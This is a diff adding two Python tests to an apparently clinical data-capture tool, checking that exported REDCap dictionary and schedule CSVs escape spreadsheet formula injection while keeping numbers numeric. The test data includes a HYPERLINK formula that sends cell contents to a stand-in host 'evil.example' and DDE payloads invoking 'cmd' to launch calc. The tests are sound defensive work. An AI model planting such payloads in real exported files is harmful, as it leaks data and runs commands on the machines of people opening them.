@@ -364,3 +364,56 @@ def test_repeating_instruments_are_named_on_upload_and_unknown_ones_refused(db):
     ]
     wrong = _convert(data, repeating_forms=["blood_pressure"])
     assert wrong.errors and "blood_pressure" in wrong.errors[0].message and "Fix:" in wrong.errors[0].message
+
+
+def test_a_downloaded_dictionary_never_runs_a_label_as_a_formula_and_reads_back_as_typed():
+    """Files people open in Excel: = + - @ at the start of a text cell get an apostrophe; numbers
+    (also "-10") stay numbers; Capture's reader takes the apostrophe off again."""
+    import csv
+    import io
+
+    from capture.definitions.schema import DataElement, FormFile
+
+    element = DataElement(
+        public_id="capture.test_temp",
+        version="1.0",
+        name="temp",
+        long_name="Temperature",
+        question='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        datatype="integer",
+        min=-10,
+        max=50,
+    )
+    form = FormFile(
+        form="f",
+        version="1.0",
+        title="F",
+        sections=[
+            {"title": "S", "items": [{"element": element.ref, "field_note": "@SUM(1+1)*cmd|' /C calc'!A0"}]}
+        ],
+    )
+    text, _ = redcap.write_dictionary([form], {element.ref: element})
+    header, first, temp = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, temp, strict=True))
+    assert cells["Field Label"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert cells["Field Note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["Text Validation Min"] == "-10" and cells["Text Validation Max"] == "50"
+    back = {r[0]: r for r in _meaning(text)}["temp"]
+    assert back[4] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert back[6] == "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_downloaded_schedule_files_neutralise_titles(db, study):
+    import csv
+    import io
+
+    from capture.definitions.schema import ScheduleFile
+
+    spec = dict(study.schedule.spec)
+    spec["arms"] = [{**arm, "title": "-2+3+cmd|' /C calc'!A0"} for arm in spec["arms"]]
+    forms, _, _ = services.study_definitions(study)
+    files = redcap.write_schedule(ScheduleFile.model_validate(spec), {f.ref: f for f in forms})
+    rows = list(csv.reader(io.StringIO(files["arms"])))
+    assert rows[1][1] == "'-2+3+cmd|' /C calc'!A0"
+    events = list(csv.reader(io.StringIO(files["events"])))
+    assert all(not cell.startswith("'") for row in events for cell in row[1:]), "numbers stay numbers"
